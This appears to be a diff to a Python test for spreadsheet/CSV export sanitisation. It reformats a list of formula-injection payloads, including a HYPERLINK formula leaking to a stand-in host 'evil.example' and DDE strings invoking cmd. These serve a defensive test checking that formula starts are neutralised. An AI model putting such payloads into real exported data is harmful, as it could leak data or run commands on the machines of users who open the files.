@@ -11,8 +11,14 @@ from reports.exports import Table, to_csv, to_xlsx
 from tests import activity_factories as af
 from tests import factories as f
 
-ATTACKS = ['=HYPERLINK("http://evil.example/?leak","X8")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-           "-2+3", "\t=1+1", "\r=1+1"]
+ATTACKS = [
+    '=HYPERLINK("http://evil.example/?leak","X8")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def test_every_formula_start_is_neutralised_and_plain_text_is_not():
